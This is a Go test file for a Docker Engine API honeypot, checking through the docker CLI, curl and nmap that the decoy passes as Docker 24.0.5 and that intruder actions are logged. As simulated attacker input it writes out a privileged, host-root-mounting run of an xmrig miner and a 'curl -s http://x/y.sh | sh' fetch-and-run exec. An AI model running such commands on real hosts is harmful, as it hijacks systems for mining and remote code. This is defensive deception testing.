package dockerapi_test

import (
	"context"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	_ "github.com/decnet/decnet/internal/service/dockerapi"
	"github.com/decnet/decnet/internal/service/servicetest"
	"github.com/decnet/decnet/internal/testenv"
)

// dockerCLI runs the real docker client against the decoy, with a config
// directory of its own.
func dockerCLI(t *testing.T, addr string, args ...string) (string, error) {
	t.Helper()
	bin := testenv.RequireTool(t, "docker")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, append([]string{"-H", "tcp://" + addr}, args...)...)
	cmd.Env = append(os.Environ(), "DOCKER_CONFIG="+t.TempDir(), "DOCKER_HOST=", "DOCKER_CONTEXT=")
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestDockerCLI(t *testing.T) {
	r := servicetest.Start(t, "docker_api", 2375, servicetest.Options{Hostname: "build-01"})
	addr := r.HostPort(2375)

	out, err := dockerCLI(t, addr, "version")
	t.Logf("docker version:\n%s", out)
	if err != nil || !strings.Contains(out, "Version:          24.0.5") || !strings.Contains(out, "API version:      1.43") || !strings.Contains(out, "Docker Engine - Community") {
		t.Errorf("docker version: %v\n%s", err, out)
	}
	out, err = dockerCLI(t, addr, "ps")
	t.Logf("docker ps:\n%s", out)
	if err != nil || !strings.Contains(out, "prod-web-1") || !strings.Contains(out, "0.0.0.0:80->80/tcp") {
		t.Errorf("docker ps: %v\n%s", err, out)
	}
	out, err = dockerCLI(t, addr, "images")
	t.Logf("docker images:\n%s", out)
	if err != nil || !strings.Contains(out, "postgres") {
		t.Errorf("docker images: %v\n%s", err, out)
	}
	out, err = dockerCLI(t, addr, "info")
	if err != nil || !strings.Contains(out, "Name: build-01") || !strings.Contains(out, "Kernel Version: "+r.Env.Persona.Distro.Kernel) {
		t.Errorf("docker info: %v\n%s", err, out)
	}

	// The miner: pulled, created, then the start fails as on a host whose
	// runc is gone.
	out, err = dockerCLI(t, addr, "run", "--privileged", "-v", "/:/host", "xmrig/xmrig", "-o", "pool.minexmr.com:4444")
	t.Logf("docker run:\n%s", out)
	if err == nil || !strings.Contains(out, "Unable to find image 'xmrig/xmrig:latest' locally") ||
		!strings.Contains(out, "Status: Downloaded newer image for xmrig/xmrig:latest") ||
		!strings.Contains(out, `exec: "runc": executable file not found in $PATH: unknown`) {
		t.Errorf("docker run: %v\n%s", err, out)
	}
	e, ok := r.Events.Wait(5*time.Second, func(e event.Event) bool {
		return e.Type == "docker.container.create" && e.Fields["result"] == "created"
	})
	if !ok || e.Fields["escape"] != true || e.Fields["privileged"] != true || e.Fields["sha256"] == nil || e.Fields["image"] != "xmrig/xmrig" {
		t.Errorf("container.create: %v %+v", ok, e.Fields)
	}
	if _, ok := r.Events.Wait(5*time.Second, event.OfType("docker.image.pull")); !ok {
		t.Error("no image.pull event")
	}
	if _, ok := r.Events.Wait(5*time.Second, event.OfType("docker.container.start")); !ok {
		t.Error("no container.start event")
	}
	out, _ = dockerCLI(t, addr, "ps", "-a")
	if !strings.Contains(out, "xmrig/xmrig") || !strings.Contains(out, "Created") {
		t.Errorf("docker ps -a after the failed run:\n%s", out)
	}

	// exec in a running container: captured, fails like the start.
	out, err = dockerCLI(t, addr, "exec", "prod-web-1", "sh", "-c", "curl -s http://x/y.sh | sh")
	t.Logf("docker exec:\n%s", out)
	if err == nil || !strings.Contains(out, "OCI runtime exec failed") {
		t.Errorf("docker exec: %v\n%s", err, out)
	}
	if e, ok := r.Events.Wait(5*time.Second, event.OfType("docker.exec.create")); !ok || len(e.Fields["cmd"].([]string)) != 3 {
		t.Errorf("exec.create: %v %+v", ok, e.Fields)
	}
}

func TestPingHeaders(t *testing.T) {
	curl := testenv.RequireTool(t, "curl")
	r := servicetest.Start(t, "docker_api", 2375, servicetest.Options{})
	out, err := exec.Command(curl, "-s", "-i", "http://"+r.HostPort(2375)+"/_ping").CombinedOutput()
	if err != nil {
		t.Fatal(err)
	}
	want := "HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nBuilder-Version: 2\r\nCache-Control: no-cache, no-store, must-revalidate\r\nDocker-Experimental: false\r\nOstype: linux\r\nPragma: no-cache\r\nServer: Docker/24.0.5 (linux)\r\nDate: "
	if !strings.HasPrefix(string(out), want) || !strings.HasSuffix(string(out), "\r\nContent-Length: 2\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOK") {
		t.Errorf("/_ping:\n%q", out)
	}
	out, _ = exec.Command(curl, "-s", "-i", "http://"+r.HostPort(2375)+"/nope").CombinedOutput()
	if !strings.HasPrefix(string(out), "HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nDate: ") || !strings.HasSuffix(string(out), "Content-Length: 29\r\n\r\n{\"message\":\"page not found\"}\n") {
		t.Errorf("404:\n%q", out)
	}
}

func TestNmap(t *testing.T) {
	nmap := testenv.RequireTool(t, "nmap")
	r := servicetest.Start(t, "docker_api", 2375, servicetest.Options{})
	out, err := exec.Command(nmap, "-sV", "-Pn", "-n", "--version-intensity", "7", "-p", r.Port(2375), r.Addr.String()).CombinedOutput()
	if err != nil {
		t.Fatalf("nmap: %v\n%s", err, out)
	}
	t.Logf("nmap:\n%s", out)
	if !strings.Contains(string(out), "2375/tcp open  docker  Docker 24.0.5 (API 1.43)") || strings.Contains(strings.ToLower(string(out)), "honeypot") {
		t.Errorf("nmap:\n%s", out)
	}
}
